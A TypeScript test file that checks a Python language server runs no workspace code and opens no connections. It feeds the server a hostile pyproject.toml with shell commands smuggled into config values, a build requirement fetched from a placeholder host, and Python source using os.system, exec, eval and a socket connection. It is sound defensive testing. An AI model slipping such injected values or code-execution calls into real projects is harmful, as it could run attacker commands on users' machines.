import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt, makeWorkspace, SERVER_JS, TestClient, uriOf } from './helpers';

const MALICIOUS_PYPROJECT = `[build-system]
requires = ["setuptools; python_version >= '0'", "evil @ https://example.invalid/evil.tar.gz"]
build-backend = "evil.backend"

[tool.pyconv]
select = ["ALL"]
extend-exclude = ["$(touch PWNED)", "\`touch PWNED\`"]

[tool.pyconv.isort]
known-first-party = ["os; touch PWNED"]
`;

const SOURCE = `"""Hostile module."""
import evil
from conftest import payload

__import__('os').system('touch PWNED')
exec(compile("open('PWNED', 'w')", "x", "exec"))
eval("__import__('subprocess').run(['touch', 'PWNED'])")


def handler(request):
    return __import__('socket').create_connection(('example.invalid', 80))
`;

describe('safety: the server runs no workspace code, opens no connection, reads only its configuration and Python files', () => {
  let workspace: string;
  let log: string;
  let client: TestClient;

  beforeAll(async () => {
    await ensureBuilt();
    workspace = makeWorkspace({
      'pyproject.toml': MALICIOUS_PYPROJECT,
      '.gitignore': 'build/\n',
      'evil.py': "open('PWNED', 'w')\n",
      'conftest.py': "open('PWNED', 'w')\npayload = 1\n",
      'setup.py': "open('PWNED', 'w')\n",
      'secrets/key.txt': 'secret\n',
    });
    log = path.join(workspace, '..', `${path.basename(workspace)}-sandbox.log`);
    writeFileSync(log, '');
    client = new TestClient({
      workspace,
      settings: { debounceMs: 0, unsafeFixes: true },
      nodeArgs: ['--require', path.join(__dirname, 'sandbox-preload.cjs')],
      // The project index reads the workspace's folders and Python files (never runs them), not `secrets/key.txt`.
      env: {
        PYCONV_SANDBOX_LOG: log,
        PYCONV_SANDBOX_DIST: path.dirname(SERVER_JS),
        PYCONV_SANDBOX_WORKSPACE: workspace,
        // The server's own code cache is read too (a file of bytecode, see launch/code-cache.ts).
        PYCONV_CODE_CACHE_DIR: path.join(workspace, '..', `${path.basename(workspace)}-code-cache`),
      },
    });
    await client.initialize();
  }, 120_000);

  afterAll(async () => {
    await client.stop();
  });

  it('analyses a hostile file, answers every feature, and does nothing else', async () => {
    const uri = uriOf(path.join(workspace, 'attack.py'));
    await client.open(uri, SOURCE);
    const diagnostics = await client.diagnosticsFor(uri, 1);
    expect(diagnostics.length).toBeGreaterThan(0);
    const textDocument = { uri };
    const everywhere = { start: { line: 0, character: 0 }, end: { line: 11, character: 0 } };
    await client.request('textDocument/hover', { textDocument, position: { line: 9, character: 5 } });
    await client.request('textDocument/codeAction', {
      textDocument,
      range: everywhere,
      context: { diagnostics, only: ['quickfix', 'source.fixAll'] },
    });
    await client.request('textDocument/completion', { textDocument, position: { line: 9, character: 0 } });
    await client.request('textDocument/rename', {
      textDocument,
      position: { line: 9, character: 5 },
      newName: 'Handler',
    });
    // A config change makes the server read its configuration again.
    await client.connection.sendNotification('workspace/didChangeWatchedFiles', {
      changes: [{ uri: uriOf(path.join(workspace, 'pyproject.toml')), type: 2 }],
    });
    await client.request('textDocument/hover', { textDocument, position: { line: 0, character: 0 } });

    expect(client.alive).toBe(true);
    const events = readFileSync(log, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { kind: string; detail: string });
    // The preload ran in the server, and recorded nothing else.
    expect(events.filter((event) => event.kind === 'sandbox')).toHaveLength(1);
    expect(events.filter((event) => event.kind !== 'sandbox')).toEqual([]);
    expect(existsSync(path.join(workspace, 'PWNED'))).toBe(false);
  }, 30_000);

  it('would have seen a child process, a connection or a read elsewhere (the preload works)', async () => {
    const { execFileSync } = await import('node:child_process');
    const output = execFileSync(
      process.execPath,
      [
        '--require',
        path.join(__dirname, 'sandbox-preload.cjs'),
        '-e',
        `const fs = require('fs'); fs.readFileSync(${JSON.stringify(path.join(workspace, 'secrets', 'key.txt'))});
         try { require('child_process').execSync('true'); } catch {}
         try { require('net').connect(80, 'example.invalid'); } catch {}`,
      ],
      {
        env: {
          ...process.env,
          PYCONV_SANDBOX_LOG: `${log}.probe`,
          PYCONV_SANDBOX_DIST: path.dirname(SERVER_JS),
        },
      },
    );
    expect(String(output)).toBe('');
    const kinds = readFileSync(`${log}.probe`, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => (JSON.parse(line) as { kind: string }).kind);
    expect([...new Set(kinds)]).toEqual(['sandbox', 'read', 'process', 'network']);
  });
});
